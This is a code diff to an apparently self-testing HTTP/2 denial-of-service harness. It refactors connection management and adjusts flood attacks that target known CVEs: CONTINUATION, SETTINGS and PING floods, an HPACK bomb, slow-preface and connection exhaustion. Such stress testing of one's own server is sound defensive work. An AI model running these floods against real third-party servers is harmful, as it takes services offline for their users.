@@ -18,8 +18,8 @@ import sys
 import time
 import zlib
 from collections import Counter
-from collections.abc import Awaitable, Callable, Coroutine
-from contextlib import suppress
+from collections.abc import AsyncIterator, Callable, Coroutine, Iterable
+from contextlib import asynccontextmanager, suppress
 from dataclasses import dataclass, field
 from functools import cache
 from typing import Any
@@ -51,7 +51,8 @@ class Attack:
         metrics_port: Of its metrics.
         heard: What the server answered.
         sent: What was sent, in units of the attack.
-        connections: Those that are open, to be ended with it.
+        connections: Those that are open, and some that the server has ended.
+        ending: Those that we have ended.
     """
 
     port: int
@@ -59,18 +60,37 @@ class Attack:
     heard: Counter[str] = field(default_factory=Counter)
     sent: int = 0
     connections: list[RawConnection] = field(default_factory=list)
+    ending: list[RawConnection] = field(default_factory=list)
 
-    async def connect(self, **how: Any) -> RawConnection:
-        """Open a connection, again and again until there is one."""
+    async def connect(self, *, port: int | None = None, **how: Any) -> RawConnection:
+        """Open a connection to the server, or to another port, again and again until there is one."""
         while True:
             try:
-                connection = await connect(self.port, self.heard, **how)
+                connection = await connect(port or self.port, self.heard, **how)
             except OSError as error:
                 self.heard[f"not connected: {type(error).__name__}"] += 1
                 await asyncio.sleep(RETRY_SECONDS)
             else:
                 self.connections.append(connection)
                 return connection
+
+    def drop(self, connection: RawConnection) -> None:
+        """End a connection."""
+        self.connections.remove(connection)
+        if not connection.closed.is_set():
+            connection.transport.abort()
+            self.ending.append(connection)
+
+    def keep(self, count: int) -> None:
+        """End the oldest connections beyond so many."""
+        while len(self.connections) > count:
+            self.drop(self.connections[0])
+
+    async def end(self) -> None:
+        """End all connections."""
+        self.keep(0)
+        for connection in self.ending:
+            await connection.closed.wait()
 
 
 Run = Callable[[Attack], Coroutine[Any, Any, None]]
@@ -116,13 +136,16 @@ async def _flood(
     *,
     opening: bytes = b"",
     connections: int = 1,
-    unread: bool = False,
+    **how: Any,
 ) -> None:
-    """Say `make(n)` for n = 0, 1, … over each of some connections; connect again where one is ended."""
+    """Say `make(n)` for n = 0, 1, … over each of some connections; connect again where one is ended.
+
+    An acknowledgement between the frames of a header block would be an error, and end the attack.
+    """
 
     async def one() -> None:
         while True:
-            connection = await attack.connect(reads=not unread)
+            connection = await attack.connect(**how)
             connection.say(opening)
             pace, number = Pace(per_second / connections), 0
             while await connection.drain():
@@ -135,7 +158,7 @@ async def _flood(
     await _together(one() for _ in range(connections))
 
 
-async def _together(ones: Any) -> None:
+async def _together(ones: Iterable[Coroutine[Any, Any, None]]) -> None:
     async with asyncio.TaskGroup() as group:
         for one in ones:
             group.create_task(one)
@@ -218,8 +241,7 @@ async def _bombs(attack: Attack, megabytes: int, streams: int) -> None:
         connection = await attack.connect()
         await _together(throw(connection, _stream(number)) for number in range(streams))
         await asyncio.sleep(0.5)
-        connection.transport.abort()
-        attack.connections.remove(connection)
+        attack.drop(connection)
 
 
 @attack
@@ -284,14 +306,22 @@ async def continuations(attack: Attack) -> None:
     """HEADERS and then CONTINUATION without end, 16 KiB each, 500 a second (CVE-2024-27316)."""
     opening = frames.frame(frames.HEADERS, 0, 1, _block(PREDICT))
     piece = frames.literal(b"x", b"y" * (frames.FRAME_BYTES_MAX - 16))[: frames.FRAME_BYTES_MAX]
-    await _flood(attack, lambda n: frames.frame(frames.CONTINUATION, 0, 1, piece), 500, opening=opening)
+    await _flood(
+        attack,
+        lambda n: frames.frame(frames.CONTINUATION, 0, 1, piece),
+        500,
+        opening=opening,
+        acknowledges=False,
+    )
 
 
 @attack
 async def empty_continuations(attack: Attack) -> None:
     """HEADERS and then empty CONTINUATION without end, 20,000 a second."""
     opening = frames.frame(frames.HEADERS, 0, 1, _block(PREDICT))
-    await _flood(attack, lambda n: frames.frame(frames.CONTINUATION, 0, 1), 20_000, opening=opening)
+    await _flood(
+        attack, lambda n: frames.frame(frames.CONTINUATION, 0, 1), 20_000, opening=opening, acknowledges=False
+    )
 
 
 @attack
@@ -308,8 +338,8 @@ async def hpack_bomb(attack: Attack) -> None:
 
 @attack
 async def large_headers(attack: Attack) -> None:
-    """Header lists of 60 kB, 200 a second."""
-    block = _block(PREDICT, *((b"x-%d" % n, b"v" * 1000) for n in range(60)))
+    """Header lists of 25 kB, 200 a second: refused, and the connection goes on."""
+    block = _block(PREDICT, *((b"x-%d" % n, b"v" * 1000) for n in range(25)))
     await _flood(attack, lambda n: frames.headers(_stream(n), block), 200)
 
 
@@ -319,7 +349,7 @@ async def large_headers(attack: Attack) -> None:
 @attack
 async def settings_flood(attack: Attack) -> None:
     """Empty SETTINGS, 20,000 a second, whose acknowledgements are not read (CVE-2019-9515)."""
-    await _flood(attack, lambda n: frames.settings(), 20_000, unread=True)
+    await _flood(attack, lambda n: frames.settings(), 20_000, reads=False)
 
 
 @attack
@@ -332,7 +362,7 @@ async def window_settings(attack: Attack) -> None:
 @attack
 async def pings(attack: Attack) -> None:
     """PINGs, 20,000 a second, whose answers are not read (CVE-2019-9512)."""
-    await _flood(attack, lambda n: frames.frame(frames.PING, payload=bytes(8)), 20_000, unread=True)
+    await _flood(attack, lambda n: frames.frame(frames.PING, payload=bytes(8)), 20_000, reads=False)
 
 
 @attack
@@ -442,8 +472,7 @@ async def _bodies(
                     break
                 attack.sent += 1
             await asyncio.sleep(pause)
-            connection.transport.abort()
-            attack.connections.remove(connection)
+            attack.drop(connection)
 
     await _together(one() for _ in range(connections))
 
@@ -465,7 +494,7 @@ async def queued_tokens(attack: Attack) -> None:
         connection.say(frames.data(1, b"", end=True))
         while 1 not in connection.streams_ended and await connection.next_told():
             pass
-        connection.transport.abort()
+        attack.drop(connection)
 
 
 @attack
@@ -528,7 +557,7 @@ async def slow_preface(attack: Attack) -> None:
                     await asyncio.wait_for(connection.closed.wait(), 1)
                 if connection.closed.is_set():
                     break
-            attack.connections.remove(connection)
+            attack.drop(connection)
 
     await _together(one() for _ in range(1000))
 
@@ -557,8 +586,7 @@ async def connections(attack: Attack) -> None:
         for _ in range(await pace.next()):
             await attack.connect()
             attack.sent += 1
-        while len(attack.connections) > 3000:
-            attack.connections.pop(0).transport.abort()
+        attack.keep(3000)
 
 
 @attack
@@ -575,8 +603,7 @@ async def tls_hellos(attack: Attack) -> None:
         for _ in range(await pace.next()):
             await attack.connect(opening=hello, reads=False)
             attack.sent += 1
-        while len(attack.connections) > 1000:
-            attack.connections.pop(0).transport.abort()
+        attack.keep(1000)
 
 
 @attack
@@ -586,7 +613,7 @@ async def slow_scrapes(attack: Attack) -> None:
 
     async def one() -> None:
         while True:
-            connection = await connect(attack.metrics_port, attack.heard, opening=b"", reads=False)
+            connection = await attack.connect(port=attack.metrics_port, opening=b"", reads=False)
             for byte in request:
                 connection.say(bytes([byte]))
                 attack.sent += 1
@@ -604,26 +631,32 @@ WARM_SECONDS = 0.5
 """From an attack's beginning to the line that says that it is under way."""
 
 
+@asynccontextmanager
+async def under_way(name: str, port: int, metrics_port: int) -> AsyncIterator[Attack]:
+    """Attack until the block is left.
+
+    Raises:
+        Exception: What stopped the attack before.
+    """
+    made = Attack(port, metrics_port)
+    task = asyncio.create_task(ATTACKS[name](made))
+    try:
+        yield made
+        if task.done():
+            task.result()  # an attack does not end by itself: this raises why it did
+    finally:
+        task.cancel()
+        with suppress(asyncio.CancelledError):
+            await task
+        await made.end()
+
+
 async def _main(name: str, port: int, metrics_port: int, seconds: float) -> None:
-    under_way = Attack(port, metrics_port)
-    task = asyncio.create_task(ATTACKS[name](under_way))
-    await _wait(task, WARM_SECONDS)
-    print(json.dumps({"attack": name}), flush=True)
-    await _wait(task, seconds)
-    task.cancel()
-    with suppress(asyncio.CancelledError):
-        await task
-    for connection in under_way.connections:
-        connection.transport.abort()
-    print(json.dumps({"sent": under_way.sent, "heard": dict(under_way.heard)}), flush=True)
-
-
-async def _wait(task: asyncio.Task[None], seconds: float) -> None:
-    done: Awaitable[Any] = asyncio.wait({task}, timeout=seconds)
-    await done
-    if task.done():
-        task.result()  # an attack does not end by itself: this raises why it did
-        raise RuntimeError("the attack ended by itself")
+    async with under_way(name, port, metrics_port) as made:
+        await asyncio.sleep(WARM_SECONDS)
+        print(json.dumps({"attack": name}), flush=True)
+        await asyncio.sleep(seconds)
+    print(json.dumps({"sent": made.sent, "heard": dict(made.heard)}), flush=True)
 
 
 if __name__ == "__main__":
